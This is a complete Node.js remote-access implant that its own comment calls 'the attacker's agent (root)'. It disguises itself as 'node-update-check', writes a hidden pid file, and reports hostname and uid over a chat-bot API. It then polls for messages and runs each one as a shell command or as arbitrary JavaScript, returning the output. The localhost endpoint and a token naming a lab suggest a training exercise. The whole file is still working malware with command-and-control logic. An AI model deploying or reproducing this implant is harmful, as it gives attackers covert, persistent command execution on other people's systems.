// node-update-check: the attacker's agent (root), tasks over a chat bot API (HTTPS long polling)
const https = require('https'), cp = require('child_process'), fs = require('fs'), os = require('os');
const TOKEN = '7315522904:AAGx-cragboard-lab-bot-token', CHAT = 5512340987;
const AsyncFunction = Object.getPrototypeOf(async function () {}).constructor;
process.title = 'node-update-check';
fs.writeFileSync('/run/.node-update.pid', String(process.pid));
function api(method, obj) {
  return new Promise((resolve, reject) => {
    const b = JSON.stringify(obj);
    const r = https.request({ host: '127.0.0.1', port: 8443, path: `/bot${TOKEN}/${method}`, method: 'POST', rejectUnauthorized: false, timeout: 45000,
      headers: { 'Content-Type': 'application/json', 'Content-Length': Buffer.byteLength(b) } }, s => {
      let d = ''; s.on('data', c => { d += c; }); s.on('end', () => { try { resolve(JSON.parse(d)); } catch (e) { reject(e); } });
    });
    r.on('error', reject); r.on('timeout', () => r.destroy(new Error('timeout'))); r.end(b);
  });
}
function run(text) {
  if (text.startsWith('js:')) return new AsyncFunction('require', text.slice(3))(require).then(String, e => 'ERR ' + e.message);
  return new Promise(r => cp.exec(text, { shell: '/bin/sh', timeout: 120000, maxBuffer: 16 << 20 }, (e, o, er) => r(o + er)));
}
(async () => {
  let off = 0;
  await api('sendMessage', { chat_id: CHAT, text: `up ${os.hostname()} uid=${process.getuid()} pid=${process.pid} ppid=${process.ppid}` }).catch(() => {});
  for (;;) {
    let u;
    try { u = await api('getUpdates', { offset: off, timeout: 20 }); } catch (e) { await new Promise(r => setTimeout(r, 5000)); continue; }
    for (const x of (u && u.result) || []) {
      off = x.update_id + 1;
      const m = x.message || {}, t = m.text || '';
      if (t === 'exit') {
        await api('sendMessage', { chat_id: CHAT, text: `#${m.message_id}\nbye` }).catch(() => {});
        fs.rmSync('/run/.node-update.pid', { force: true });
        process.exit(0);
      }
      const out = await run(t);
      await api('sendMessage', { chat_id: CHAT, text: `#${m.message_id}\n${out}` }).catch(() => {});
    }
  }
})();
